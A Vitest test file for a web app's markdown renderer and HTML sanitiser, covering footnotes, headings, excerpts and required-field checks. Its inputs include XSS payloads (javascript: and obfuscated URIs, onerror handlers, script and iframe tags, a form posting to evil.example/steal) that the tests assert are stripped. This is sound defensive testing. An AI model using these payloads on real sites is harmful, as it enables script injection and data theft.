import { describe, expect, it } from "vitest";
import { AppError } from "@/lib/errors";
import { markdownExcerpt, NOTHING_TO_SHOW, renderMarkdown, renderRequiredMarkdown } from "./render";

/** Whether a required field would accept the text: what renderRequiredMarkdown checks before storing it. */
function hasVisibleContent(markdown: string): boolean {
  try {
    renderRequiredMarkdown(markdown, "body");
    return true;
  } catch {
    return false;
  }
}

/** Every `href="#…"` of a rendered text, and every id: in-page links must land somewhere. */
function fragmentLinks(html: string) {
  const hrefs = [...html.matchAll(/href="#([^"]*)"/g)].map((match) => match[1]!);
  const ids = new Set([...html.matchAll(/\bid="([^"]*)"/g)].map((match) => match[1]!));
  return { hrefs, ids };
}

describe("renderMarkdown", () => {
  it("renders CommonMark and GitHub extensions", () => {
    const html = renderMarkdown("Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<code>code</code>");
    expect(html).toContain("<table>");
    expect(html).toContain('type="checkbox"');
  });

  it("keeps a task list's checkboxes and drops an author's own inputs", () => {
    const html = renderMarkdown('- [x] done\n- [ ] to do\n\nName: <input type="text" value="x"> <input type="checkbox" checked> <input>\n\n<p>Raw <input type="checkbox"></p>');
    expect(html.match(/<input/g)).toHaveLength(2);
    expect(html).toContain('<li class="task-list-item"><input type="checkbox" checked disabled> done</li>');
    expect(html).toContain("<p>Name:");
    expect(html).not.toMatch(/data-toile|value="x"/);
  });

  it("neutralises javascript: and data: links", () => {
    const html = renderMarkdown("[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) ![i](javascript:alert(2))");
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/data:text/i);
    expect(html).toContain("click");
  });

  it("keeps http links and marks them external", () => {
    const html = renderMarkdown("See https://example.org/page and [docs](https://docs.example.org).");
    expect(html).toContain('href="https://example.org/page"');
    expect(html).toContain('rel="nofollow ugc noopener noreferrer"');
  });

  it("prefixes ids so a post cannot clobber page globals", () => {
    const html = renderMarkdown('Footnote[^1]\n\n[^1]: note\n\n<div id="location">x</div> <a name="top">y</a>');
    expect(html).toMatch(/id="user-content-[0-9a-z]+-location"/);
    expect(html).toMatch(/name="user-content-[0-9a-z]+-top"/);
    expect(html).not.toMatch(/\bid="(?!user-content-)/);
  });
});

describe("renderMarkdown: raw HTML is rendered, then sanitised (as on GitHub)", () => {
  it("keeps the text of HTML blocks instead of dropping it", () => {
    expect(renderMarkdown("<div>A paragraph</div>")).toBe("<div>A paragraph</div>");
    expect(renderMarkdown("<div>\n\n**bold** inside\n\n</div>")).toContain("<p><strong>bold</strong> inside</p>");
    // An HTML block that starts with an image used to swallow everything up to the blank line.
    const html = renderMarkdown('<img src="https://example.org/bins.png" alt="Bins">\nThree bays, one per month.\n\nNext paragraph');
    expect(html).toContain('<img src="https://example.org/bins.png" alt="Bins">');
    expect(html).toContain("Three bays, one per month.");
    expect(html).toContain("<p>Next paragraph</p>");
  });

  it("keeps an image but removes its event handlers", () => {
    const html = renderMarkdown('<img src="https://example.org/x.png" onerror="alert(1)"> <b onclick="x()">b</b>');
    expect(html).toContain('<img src="https://example.org/x.png" alt="">');
    expect(html).toContain("<b>b</b>");
    expect(html).not.toMatch(/onerror|onclick|alert/i);
  });

  it("drops scripts, style sheets, iframes and forms with what they hold", () => {
    const html = renderMarkdown(
      [
        "hello <script>alert(1)</script> there",
        "",
        "<style>body { display: none }</style>",
        "",
        '<iframe src="https://example.org/embed">fallback</iframe>',
        "",
        '<form action="https://evil.example/steal" method="post"><textarea name="t">typed</textarea><select><option>pick</option></select>Send</form>',
      ].join("\n"),
    );
    expect(html).not.toMatch(/<(script|style|iframe|form|textarea|select|option)\b/i);
    expect(html).not.toMatch(/alert|display|fallback|evil|typed|pick|action=|method=/);
    expect(html).toContain("hello");
    expect(html).toContain("there");
  });

  it("removes javascript: links however they are spelled, keeping their words", () => {
    const html = renderMarkdown('<a href="javascript:alert(1)">one</a> <A HREF="JaVaScRiPt:alert(2)">two</A> <a href="jav&#x09;ascript:alert(3)">three</a>');
    expect(html).toBe("<p><a>one</a> <a>two</a> <a>three</a></p>");
  });

  it("allows only http(s) images and http(s)/mailto links", () => {
    const html = renderMarkdown('<img src="data:image/png;base64,AAAA"> <a href="ftp://example.org/f">ftp</a> <a href="mailto:a@example.org">mail</a> <img src="https://example.org/a.png" srcset="javascript:alert(1) 2x">');
    expect(html).not.toMatch(/data:|ftp:|javascript:|srcset/);
    expect(html).toContain('href="mailto:a@example.org"');
    expect(html).toContain('<img src="https://example.org/a.png" alt="">');
  });

  it("drops style and class attributes, and HTML comments", () => {
    expect(renderMarkdown('<p style="position:fixed" class="admin">styled</p>')).toBe("<p>styled</p>");
    expect(renderMarkdown("before <!-- hidden note --> after")).toBe("<p>before  after</p>");
  });

  it("allows <details> and <summary>, as GitHub does", () => {
    const html = renderMarkdown("<details open>\n<summary>Full list</summary>\n\n- bins\n- gloves\n\n</details>");
    expect(html).toMatch(/^<details open>\n<summary>Full list<\/summary>/);
    expect(html).toContain("<li>gloves</li>");
    expect(html).toMatch(/<\/details>$/);
  });
});

describe("renderMarkdown: footnotes", () => {
  it("links each reference to its note and each note back to its reference", () => {
    const html = renderMarkdown("Footnote[^1] and again[^1], and another[^b].\n\n[^1]: note\n[^b]: second note");
    const { hrefs, ids } = fragmentLinks(html);
    const scope = /id="(user-content-[0-9a-z]+-)footnote-label"/.exec(html)![1]!;
    expect(hrefs).toEqual(expect.arrayContaining(["fn-1", "fnref-1", "fn-b", "fnref-b"].map((id) => scope + id)));
    for (const href of hrefs) expect(ids, `#${href} has no target`).toContain(href);
    // The references are described by the notes' heading.
    expect(html).toContain(`aria-describedby="${scope}footnote-label"`);
  });

  it("two posts on one page keep their notes apart: ids are scoped to their text", () => {
    const first = fragmentLinks(renderMarkdown("One[^1]\n\n[^1]: first note"));
    const second = fragmentLinks(renderMarkdown("Two[^1]\n\n[^1]: second note"));
    for (const id of second.ids) expect(first.ids.has(id), id).toBe(false);
    for (const href of second.hrefs) expect(second.ids, `#${href} has no target`).toContain(href);
    // The same text always renders to the same ids (stored HTML is stable).
    expect(renderMarkdown("One[^1]\n\n[^1]: first note")).toBe(renderMarkdown("One[^1]\n\n[^1]: first note"));
  });

  it("makes an author's own anchors work the same way", () => {
    const html = renderMarkdown('<a name="plan"></a>\n\n## Plan\n\nSee [the plan](#plan) and <a href="#top">top</a>.\n\n<div id="top">Top</div>');
    const { hrefs, ids } = fragmentLinks(html);
    const scope = /name="(user-content-[0-9a-z]+-)plan"/.exec(html)![1]!;
    expect(hrefs).toEqual([`${scope}plan`, `${scope}top`]);
    expect(ids).toContain(`${scope}top`);
  });
});

describe("renderMarkdown: headings", () => {
  it("shifts headings two ranks down so the page's own h1 and h2 stay above them", () => {
    const html = renderMarkdown("# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n\n<h1>Raw</h1>");
    expect(html).toBe(["<h3>One</h3>", "<h4>Two</h4>", "<h5>Three</h5>", "<h6>Four</h6>", "<h6>Five</h6>", "<h6>Six</h6>", "<h3>Raw</h3>"].join("\n"));
  });

  it("shifts the notes' heading too, and shows it (no hidden text from authors)", () => {
    expect(renderMarkdown("a[^1]\n\n[^1]: b")).toMatch(/<h4 id="user-content-[0-9a-z]+-footnote-label">Footnotes<\/h4>/);
  });
});

describe("renderMarkdown: nothing reaches outside the post", () => {
  it("drops tabindex, accesskey and the sr-only class", () => {
    const html = renderMarkdown('<div tabindex="1" accesskey="s">tab hijack</div>\n\n<h2 class="sr-only">secret</h2>');
    expect(html).not.toMatch(/tabindex|accesskey|sr-only/i);
    expect(html).toContain("tab hijack");
  });

  it("makes every code block, fenced or raw, a keyboard stop named Code (it may scroll sideways); an author's own tabindex on one still goes", () => {
    expect(renderMarkdown("```\nconst x = 1;\n```")).toBe('<pre tabindex="0" role="group" aria-label="Code"><code>const x = 1;\n</code></pre>');
    expect(renderMarkdown('<pre tabindex="-1" role="button" aria-label="Click">raw</pre>')).toBe('<pre tabindex="0" role="group" aria-label="Code">raw</pre>');
    expect(renderMarkdown("Inline `code` stays inline")).toBe("<p>Inline <code>code</code> stays inline</p>");
  });

  it("an image needs an absolute http(s) address: without one, its alt text stands in for it", () => {
    expect(renderMarkdown('<img src="/api/auth/signout" alt="x">')).toBe("x");
    expect(renderMarkdown("![bins](bins.png)")).toBe("<p>bins</p>");
    expect(renderMarkdown("Before <img src=x onerror=alert(1)> after")).toBe("<p>Before  after</p>");
    expect(renderMarkdown("<img>")).not.toContain("<img");
    expect(renderMarkdown("![bins](https://example.org/bins.png)")).toContain('src="https://example.org/bins.png"');
    expect(hasVisibleContent('<img src="x">')).toBe(false);
  });
});

describe("what a required field accepts (renderRequiredMarkdown)", () => {
  it("is true for text, however little, and for an image", () => {
    expect(hasVisibleContent("ok")).toBe(true);
    expect(hasVisibleContent("<div>A paragraph</div>")).toBe(true);
    expect(hasVisibleContent("\u200b.")).toBe(true);
    expect(hasVisibleContent("![bins](https://example.org/bins.png)")).toBe(true);
    expect(hasVisibleContent('<img src="https://example.org/bins.png">')).toBe(true);
    expect(hasVisibleContent("🌱")).toBe(true);
  });

  it("is false for what renders to nothing", () => {
    expect(hasVisibleContent("<script>alert(1)</script>")).toBe(false);
    expect(hasVisibleContent("<!-- only a comment -->")).toBe(false);
    expect(hasVisibleContent("<style>p { color: red }</style>\n\n<iframe src=\"https://example.org\"></iframe>")).toBe(false);
    expect(hasVisibleContent("")).toBe(false);
    expect(hasVisibleContent(" \n\t ")).toBe(false);
    expect(hasVisibleContent("[](https://example.org)")).toBe(false);
    expect(hasVisibleContent("![](javascript:alert(1))")).toBe(false);
  });

  it("is false for invisible characters", () => {
    // Zero-width space, zero-width (non-)joiner, word joiner, byte-order mark, soft hyphen,
    // left-to-right mark, no-break and ideographic spaces, Hangul filler, blank Braille.
    expect(hasVisibleContent("\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u00a0\u3000\u3164\u2800")).toBe(false);
    expect(hasVisibleContent("**\u200b**\n\n> \u2060")).toBe(false);
  });
});

describe("markdownExcerpt", () => {
  it("strips markup and shortens", () => {
    expect(markdownExcerpt("## Hello\n\nSome **bold** [link](https://x.y) text")).toBe("Hello Some bold link text");
    expect(markdownExcerpt("a".repeat(300), 10)).toBe("aaaaaaaaa…");
  });

  it("shows what the rendered post shows: no script, links with parentheses, underscores kept", () => {
    const body = "Hello <script>alert(1)</script> <img src=x onerror=alert(2)> see [the wiki](https://en.wikipedia.org/wiki/Compost_(disambiguation)) about <b>snake_case</b> | pipes";
    const excerpt = markdownExcerpt(body);
    // A script goes with its content, tags keep their text, as in the rendered post.
    expect(excerpt).toBe("Hello see the wiki about snake_case | pipes");
    expect(excerpt).not.toMatch(/<|script|onerror|https?:/);
  });

  it("puts blocks on one line and cuts at a word", () => {
    expect(markdownExcerpt("- one\n- two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |")).toBe("one two quoted a b 1 2");
    expect(markdownExcerpt("Seed swapping at the community garden next week", 30)).toBe("Seed swapping at the…");
  });
});

describe("renderRequiredMarkdown (posts, goals, updates, group descriptions)", () => {
  it("renders what shows something, exactly as renderMarkdown does", () => {
    for (const text of ["<div>kept</div>", "Hello **you**", "![bins](https://example.org/bins.png)"]) expect(renderRequiredMarkdown(text, "body")).toBe(renderMarkdown(text));
  });

  it("refuses what would show nothing, on the field named", () => {
    for (const text of ["<script>alert(1)</script>", "<!-- draft -->", "\u200b\u2060"]) {
      let thrown: unknown;
      try {
        renderRequiredMarkdown(text, "goal");
      } catch (error) {
        thrown = error;
      }
      expect(thrown).toBeInstanceOf(AppError);
      expect(thrown).toMatchObject({ code: "INVALID", field: "goal", message: NOTHING_TO_SHOW });
    }
  });
});

describe("line breaks", () => {
  it("a line break typed is a line break shown; a blank line still starts a paragraph", () => {
    expect(renderMarkdown("Line one\nLine two")).toBe("<p>Line one<br>\nLine two</p>");
    expect(renderMarkdown("One\n\nTwo")).toBe("<p>One</p>\n<p>Two</p>");
    expect(renderMarkdown("- a\n- b")).not.toContain("<br>");
  });
});
